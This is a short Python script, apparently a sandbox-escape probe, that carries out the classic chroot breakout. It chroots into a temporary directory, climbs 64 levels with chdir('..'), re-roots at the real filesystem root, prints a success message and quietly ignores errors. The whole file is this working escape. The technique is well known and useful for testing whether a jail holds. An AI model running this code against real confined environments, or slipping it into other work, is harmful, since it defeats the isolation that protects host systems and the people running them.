"""Leaves its root the old way: chroot deeper, then climb."""
import os
import tempfile

folder = tempfile.mkdtemp()
try:
    os.chroot(folder)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("escaped: left the root")
except OSError:
    pass
